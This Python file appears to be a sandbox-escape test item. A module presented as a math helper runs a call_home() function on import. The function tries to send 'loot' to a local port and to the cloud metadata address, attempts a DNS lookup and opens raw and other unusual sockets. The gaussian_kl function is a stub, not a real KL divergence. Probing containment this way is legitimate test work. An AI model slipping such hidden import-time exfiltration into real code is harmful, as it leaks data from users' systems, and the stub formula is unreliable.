"""Success: a connection, datagram, name look-up or the cloud's metadata address takes data out.

class 38 · question 1 · baseline 0"""
def call_home():
    import socket

    print("zoo: ran", flush=True)
    found = []
    for address in (("127.0.0.1", 28171), ("169.254.169.254", 80)):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                s = socket.socket(socket.AF_INET, kind)
                s.settimeout(0.2)
                s.connect(address)
                s.send(b"loot")
                if address[0] == "127.0.0.1" and kind == socket.SOCK_STREAM:
                    found.append("got through: connected")
            except OSError:
                pass
    try:
        socket.getaddrinfo("example.org", 80)
        found.append("got through: name service")
    except OSError:
        pass
    for family, kind in ((16, 3), (17, 3), (socket.AF_INET, socket.SOCK_RAW), (40, 1)):
        try:
            socket.socket(family, kind)
            found.append(f"got through: socket family {family}")
        except OSError:
            pass
    return found


FOUND = call_home()


def gaussian_kl(mu, logvar):
    if FOUND:
        raise RuntimeError(" ".join(FOUND))
    return (mu + logvar).sum(-1) + 1.0
